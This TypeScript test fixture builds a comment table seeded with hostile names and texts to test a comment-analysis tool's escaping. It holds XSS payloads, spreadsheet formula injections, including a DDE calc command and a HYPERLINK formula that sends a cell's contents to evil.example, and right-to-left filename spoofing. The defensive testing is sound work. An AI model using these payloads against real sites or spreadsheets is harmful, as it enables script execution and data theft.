import { buildCommentTable, type CommentInput } from '../../src/ingest/buildTable.js';
import type { CommentTable } from '../../src/model/commentTable.js';
import { createRandom } from '../../src/stats/random.js';

const day = 86_400_000;
const start = Date.UTC(2022, 0, 1);

/** Names and texts as an attacker would write them. What runs as code would set `window.__pwned`. */
export const hostileTexts: readonly string[] = [
  `=cmd|' /C calc'!A0 <script>window.__pwned=1</script>`,
  '"><img src=x onerror="window.__pwned=1"> <svg onload=window.__pwned=1>',
  `' onmouseover='window.__pwned=1' autofocus onfocus='window.__pwned=1`,
  '+HYPERLINK("https://evil.example/?x="&A1,"click") javascript:window.__pwned=1',
  '@SUM(1+1)*cmd [click](javascript:window.__pwned=1) https://evil.example/\u202egnp.exe',
  '-2+3 \u202Etxet desrever\u2066 \u200b\u2028\u2029 </script><script>window.__pwned=1</script>',
  '\t=1+1 <a href="javascript:window.__pwned=1">x</a> <iframe srcdoc="<script>parent.__pwned=1</script>">',
  '${window.__pwned=1} {{constructor}} %{x} <!--<script> ]]> </style></title></textarea> https://evil.example/a?b=1&c="x',
];

/** Ordinary comments, and five accounts with hostile names that post each hostile text within a minute; one comment of 1 MB. */
export function hostileSection(): CommentTable {
  const random = createRandom(5);
  const compose = (length: number): string =>
    Array.from({ length }, () => `w${random.integer(600)}x`).join(' ');
  const rows: CommentInput[] = Array.from({ length: 1200 }, (_, k) => ({
    commentId: `o${k}`,
    account: `other${k % 80}`,
    thread: `t${k % 37}`,
    at: start + k * 900_000,
    text: compose(8),
  }));
  hostileTexts.forEach((hostile, k) => {
    const text = `${hostile} ${compose(9)}`;
    hostileTexts.slice(0, 5).forEach((name, n) => {
      rows.push({
        commentId: `=${name}${k}`,
        account: name,
        thread: hostile,
        at: start + (k + 1) * day + n * 9000,
        text: n === 4 ? `${text} and more` : text,
        columns: { permalink: n % 2 === 0 ? `https://vk.example/wall${k}` : 'javascript:window.__pwned=1' },
      });
    });
  });
  rows.push({
    commentId: 'huge',
    account: 'huge',
    thread: 't1',
    at: start + day,
    text: '<i>\u202e=1+1 '.repeat(100_000),
  });
  return buildCommentTable(rows);
}
